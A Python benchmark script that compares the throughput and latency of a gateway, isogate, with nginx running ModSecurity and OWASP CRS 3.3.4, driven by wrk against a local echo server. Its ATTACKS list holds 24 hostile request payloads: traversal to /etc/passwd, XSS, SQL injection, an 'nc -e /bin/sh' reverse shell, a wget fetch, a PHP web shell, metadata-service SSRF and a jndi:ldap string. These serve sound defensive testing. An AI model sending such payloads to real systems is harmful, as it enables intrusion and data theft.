"""isogate against the WAF a user would otherwise put in front of an API: nginx with ModSecurity v3 and the
OWASP CRS 3.3.4 (Debian's libnginx-mod-http-modsecurity and modsecurity-crs), side by side on this machine,
in front of the same upstream (a bare aiohttp echo), with the same requests and the same CRS at PL1.

The peer is set up as isogate is: paranoia level 1, anomaly threshold 5, every method and content type the
requests use allowed, and Accept-Charset allowed. CRS 3.3.4 lists Accept-Charset in `tx.restricted_headers`,
so rule 920450 refuses every request of an ordinary browser that sends it (Firefox and curl do not, many
HTTP libraries and older browsers do); isogate does not run the 920 protocol rules.

Measured, wrk -t1, rounds interleaved, medians: the p50 at concurrency 1 on a benign GET (and its overhead
over the upstream direct), req/s at concurrency 50 on the benign GET with 1 and 2 workers each, and req/s on
CRS attack requests (a rotating set of 24: SQL injection, XSS, traversal, RCE; both refuse them, 403).

Targets (issue 25): at least 4x the peer's req/s at PL1 with one worker each, and at most a third of its p50
overhead over direct.

Writes bench/results/waf.{md,json}. Needs wrk, nginx and the ModSecurity module: `make bench` installs them.
"""

from __future__ import annotations

import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench.common import Server, bare, bench_env, gateway, publish, run_in_rounds  # noqa: E402
from bench.scenarios import token  # noqa: E402
from bench.upstream import nginx, wrk  # noqa: E402

BENIGN = "/echo?q=shoes&page=2"
ATTACKS = [
    "/echo?file=../../../../etc/passwd",
    "/echo?file=..%252f..%252fetc%252fshadow",
    "/echo?p=/proc/self/environ",
    "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/echo?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/echo?q=javascript:alert(document.cookie)",
    "/echo?q=%3Csvg/onload=alert(1)%3E",
    "/echo?id=1'%20union%20select%20password%20from%20users--",
    "/echo?id=1%20AND%20SLEEP(5)",
    "/echo?id=1;waitfor%20delay%20'0:0:5'--",
    "/echo?id=1';%20exec%20master..xp_cmdshell%20'dir'--",
    "/echo?id=1'%20or%20'1'='1",
    "/echo?cmd=;cat%20/etc/passwd",
    "/echo?cmd=%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444",
    "/echo?cmd=$(wget%20http://x/y.sh)",
    "/echo?host=127.0.0.1;id",
    "/echo?x=%3C?php%20system($_GET%5Bc%5D);%20?%3E",
    "/echo?f=php://filter/convert.base64-encode/resource=index.php",
    "/echo?u=http://169.254.169.254/latest/meta-data/",
    "/echo?q=%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D",
    "/echo?x=$%7Bjndi:ldap://x/a%7D",
    "/echo?session=PHPSESSID%3Dabc",
    "/echo?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--",
    "/echo?q=%3Cbody%20onload=alert(1)%3E",
]
MODSECURITY = """
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 1048576
SecRequestBodyNoFilesLimit 1048576
SecRequestBodyLimitAction Reject
SecResponseBodyAccess Off
SecAuditEngine Off
SecTmpDir {tmp}
SecDataDir {tmp}
Include /etc/modsecurity/crs/crs-setup.conf
SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=1"
SecAction "id:900110,phase:1,nolog,pass,t:none,setvar:tx.inbound_anomaly_score_threshold=5"
SecAction "id:900200,phase:1,nolog,pass,t:none,\
  setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'"
SecAction "id:900220,phase:1,nolog,pass,t:none,\
  setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| \
|application/json| |application/xml| |text/xml| |text/plain|'"
SecAction "id:900250,phase:1,nolog,pass,t:none,\
  setvar:'tx.restricted_headers=/content-encoding/ /proxy/ /lock-token/ /content-range/ /if/'"
Include /usr/share/modsecurity-crs/rules/*.conf
"""
WRK_ROTATE = """
paths = {{ {paths} }}
i = 0
request = function()
  i = i % #paths + 1
  return wrk.format("GET", paths[i])
end
"""


def modsecurity(tmp: Path, upstream: int, workers: int) -> Server:
    """nginx as bench/upstream.py runs it, with ModSecurity and the CRS on."""
    (tmp / "modsecurity.conf").write_text(MODSECURITY.format(tmp=tmp))
    modules = "load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;"
    rules = f"modsecurity on; modsecurity_rules_file {tmp}/modsecurity.conf;"
    return nginx(tmp, upstream, workers, modules, rules)


async def main(rounds: int, seconds: int) -> None:
    env = bench_env()
    tmp = Path(tempfile.mkdtemp(prefix="isogate-waf-"))
    script = tmp / "attacks.lua"
    script.write_text(WRK_ROTATE.format(paths=", ".join(f'"{p}"' for p in ATTACKS)))
    servers: dict[str, Server] = {}
    try:
        origin = servers["direct"] = bare(env)
        route = {"path": "/echo", "upstream": origin.url}
        for workers in (1, 2):
            servers[f"nginx + ModSecurity + CRS, {workers} worker(s)"] = modsecurity(
                tmp, origin.port, workers
            )
            servers[f"isogate, {workers} worker(s)"] = gateway(
                f"waf-{workers}",
                tmp,
                env,
                debug_headers=False,
                execution_mode="hybrid",
                routes=[route],
                server={"workers": workers},
            )
        auth = ["-H", f"Authorization: Bearer {token(env['SECRET_KEY'], 'established', trust='trusted')}"]
        async with aiohttp.ClientSession() as session:
            for server in servers.values():
                await server.ready(session, "/echo?q=ready")
        for server in servers.values():  # warm-up: connections, the caller's history
            wrk(server.url + BENIGN, 1, 1, auth)
        runs: dict[str, dict[str, list[dict[str, float]]]] = {
            name: {"c1": [], "benign": [], "attacks": []} for name in servers
        }
        for _ in range(rounds):
            for name, server in servers.items():
                if name.endswith("1 worker(s)") or name == "direct":
                    runs[name]["c1"].append(wrk(server.url + BENIGN, 1, seconds, auth))
                runs[name]["benign"].append(wrk(server.url + BENIGN, 50, seconds, auth))
                if name != "direct":
                    runs[name]["attacks"].append(
                        wrk(server.url + "/", 50, seconds, [*auth, "-s", str(script)])
                    )
    finally:
        for server in servers.values():
            server.stop()
    report(runs, rounds, seconds)


def report(runs: dict[str, dict[str, list[dict[str, float]]]], rounds: int, seconds: int) -> None:
    def med(name: str, kind: str, key: str) -> float:
        return statistics.median(r[key] for r in runs[name][kind]) if runs[name][kind] else float("nan")

    direct = med("direct", "c1", "p50_ms")
    lines = [
        f"WAF peer, {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}: wrk -t1, {seconds} s a run,"
        f" medians of {rounds} interleaved rounds; benign GET {BENIGN}, and {len(ATTACKS)} CRS attack"
        " requests in turn; CRS 3.3.4 at PL1 in both.",
        "",
        "| server | p50 ms, c=1 | over direct | benign req/s, c=50 | p99 ms | attack req/s, c=50"
        " | attacks refused |",
        "|---|---|---|---|---|---|---|",
    ]
    for name in runs:
        c1 = med(name, "c1", "p50_ms")
        attacks = runs[name]["attacks"]
        refused = statistics.median(r["non_2xx"] / (r["rps"] * seconds) for r in attacks) if attacks else 0.0
        lines.append(
            f"| {name} | {c1:.3f} | {c1 - direct:+.3f} | {med(name, 'benign', 'rps'):,.0f}"
            f" | {med(name, 'benign', 'p99_ms'):.1f} | {med(name, 'attacks', 'rps'):,.0f} | {refused:.0%} |"
        )
    peer, ours = "nginx + ModSecurity + CRS, 1 worker(s)", "isogate, 1 worker(s)"
    ratio = med(ours, "benign", "rps") / med(peer, "benign", "rps")
    attack_ratio = med(ours, "attacks", "rps") / med(peer, "attacks", "rps")
    overhead = (med(ours, "c1", "p50_ms") - direct) / (med(peer, "c1", "p50_ms") - direct)
    lines += [
        "",
        f"- {'met' if ratio >= 4 else 'MISSED'}: isogate {ratio:.1f}x the peer's req/s on the benign GET, one"
        f" worker each (>= 4x); on the attacks {attack_ratio:.1f}x",
        f"- {'met' if overhead <= 1 / 3 else 'MISSED'}: isogate's p50 overhead over direct is"
        f" {overhead:.2f} of the peer's (<= 1/3)",
    ]
    data: dict[str, Any] = runs
    publish("waf", lines, data)


if __name__ == "__main__":
    run_in_rounds(main, __doc__)
